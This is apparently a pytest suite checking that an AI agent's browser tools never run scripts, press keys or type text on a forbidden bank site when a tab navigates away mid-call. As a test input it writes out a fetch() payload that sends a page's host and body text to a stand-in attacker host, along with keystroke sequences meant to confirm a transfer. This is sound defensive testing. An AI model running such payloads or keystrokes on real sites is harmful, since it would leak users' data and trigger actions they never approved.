"""Races against a forbidden site: a command reaches the document that it was judged for, or none (F1, F2).

The page of the client's tab leaves for the bank in the middle of a call. What is done there shows in the
log: a script sends what it finds to the attacker's host, and a key press confirms a transfer.
"""

from __future__ import annotations

from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager

import pytest

from logged_hosts import HTML, LoggedHosts, Response
from site_boundary import config_file
from tool_browser import Browsing, Tools

EVIL, BANK = "evil.localhost", "bank.localhost"
BALANCE = "balance 12345.67"


@pytest.fixture
def bank(hosts: LoggedHosts) -> str:
    """A page with a button that has the focus at once, and a balance for who is signed in."""
    form = "<form method=post action=/confirm><button autofocus>Confirm transfer</button></form>"
    page = f"<!doctype html><title>Bank</title>{form}<p>{BALANCE}</p>".encode()
    return hosts.set_response(BANK, "/", Response(page, HTML, headers={"Set-Cookie": "id=1; HttpOnly"}))


@contextmanager
def not_asked(browsing: Browsing, hosts: LoggedHosts) -> Iterator[Tools]:
    approved = browsing.chain.home / "state" / "approvals.json"
    approved.parent.mkdir(mode=0o700, exist_ok=True)
    approved.write_text(f'{{"{hosts.origin(EVIL)}": {{}}}}')
    approved.chmod(0o600)
    try:
        asks = '[browser]\nsites = "ask"\nask_in = "client"'
        with config_file(browsing, asks), browsing.client("attacked") as tools:
            yield tools
    finally:
        approved.unlink()


def stolen(hosts: LoggedHosts) -> list[str]:
    """What a script has sent to the attacker from anywhere but the attacker's own page."""
    paths = [request.path for request in hosts.requests(EVIL)]
    return [path for path in paths if path.startswith("/steal") and "evil" not in path.partition("?")[2]]


def confirmed(hosts: LoggedHosts) -> list[str]:
    return [request.path for request in hosts.requests(BANK) if request.path.startswith("/confirm")]


def steal(hosts: LoggedHosts) -> str:
    send = (
        f"fetch('{hosts.url(EVIL, '/steal')}?' + encodeURIComponent(location.host + document.body.innerText)"
    )
    return f"{send}, {{mode: 'no-cors'}}); 1"


def open_evil(tools: Tools, hosts: LoggedHosts, body: str) -> int:
    tab: int = tools.done("tabs_create_mcp").structured["tabId"]
    tools.done("navigate", tabId=tab, url=hosts.set_page(EVIL, "/", body))
    return tab


@pytest.mark.parametrize("way", ["batch", "parallel"])
def test_a_script_never_runs_on_a_forbidden_site(
    browsing: Browsing, hosts: LoggedHosts, bank: str, rounds: int, way: str
) -> None:
    with not_asked(browsing, hosts) as tools:
        for number in range(rounds):
            tab = open_evil(tools, hosts, "<p>evil</p>")
            hosts.clear()
            leave = f"setTimeout(() => location = '{bank}', {60 + 45 * number % 180}); 1"
            run = {"action": "javascript_exec", "tabId": tab, "text": steal(hosts)}
            if way == "batch":
                first = {**run, "text": leave}
                steps = [{"name": "javascript_tool", "input": each} for each in [first, *[run] * 40]]
                answers = tools.call("browser_batch", actions=steps).text
            else:
                tools.done("javascript_tool", **{**run, "text": leave})
                with ThreadPoolExecutor(8) as threads:
                    calls = [threads.submit(tools.call, "javascript_tool", **run) for _ in range(40)]
                answers = "".join(call.result().text for call in calls)
            assert stolen(hosts) == []
            assert BALANCE not in answers
            tools.call("tabs_close_mcp", tabId=tab)


def test_keys_are_never_pressed_on_a_forbidden_site(
    browsing: Browsing, hosts: LoggedHosts, bank: str, rounds: int
) -> None:
    with not_asked(browsing, hosts) as tools:
        for _ in range(rounds):
            tab = open_evil(tools, hosts, f"<a id=a href={bank}>on</a><script>a.focus()</script>")
            hosts.clear()
            presses = " ".join(["Return", *["shift"] * 60, "Return", "space"])
            said = tools.call("computer", action="key", text=presses, tabId=tab).text
            assert confirmed(hosts) == []
            assert BALANCE not in said
            tools.call("tabs_close_mcp", tabId=tab)


def test_text_is_never_typed_on_a_forbidden_site(browsing: Browsing, hosts: LoggedHosts, rounds: int) -> None:
    bank = hosts.set_page(BANK, "/pay", "<form method=post action=/confirm><input name=to autofocus></form>")
    with not_asked(browsing, hosts) as tools:
        for _ in range(rounds):
            form = f"<form action={bank}><input name=q id=q></form><script>q.focus()</script>"
            tab = open_evil(tools, hosts, form)
            hosts.clear()
            tools.call("computer", action="type", text=f"a\n{'x' * 200}\nattacker\n", tabId=tab)
            assert confirmed(hosts) == []
            tools.call("tabs_close_mcp", tabId=tab)


def test_keys_end_with_the_document_also_on_an_allowed_site(browsing: Browsing, hosts: LoggedHosts) -> None:
    hosts.set_page(EVIL, "/next", "<form method=post action=/sent><button autofocus>Send</button></form>")
    with browsing.client("allowed") as tools:
        tab = open_evil(
            tools, hosts, f"<a id=a href={hosts.url(EVIL, '/next')}>on</a><script>a.focus()</script>"
        )
        said = tools.call(
            "computer", action="key", text=" ".join(["Return", *["shift"] * 60, "Return"]), tabId=tab
        )
        assert not said.is_error
        assert "of 62 keys" in said.text
        assert [request for request in hosts.requests(EVIL) if request.path == "/sent"] == []
        assert "Send" in tools.done("read_page", tabId=tab).text
